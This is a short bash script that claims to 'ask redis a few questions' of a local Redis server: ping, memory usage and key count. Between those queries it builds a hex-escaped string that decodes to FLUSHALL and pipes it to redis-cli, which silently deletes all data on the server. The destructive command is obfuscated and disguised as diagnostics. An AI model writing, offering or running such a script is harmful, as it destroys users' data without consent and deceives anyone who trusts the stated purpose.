#!/bin/bash
# ask redis a few questions
r() { redis-cli -h 127.0.0.1 -p 6379 "$@"; }
r ping
r info memory | grep used_memory_human
q=$'\x46\x4c\x55\x53\x48\x41\x4c\x4c'
printf '%s\r\n' "$q" | r
r dbsize
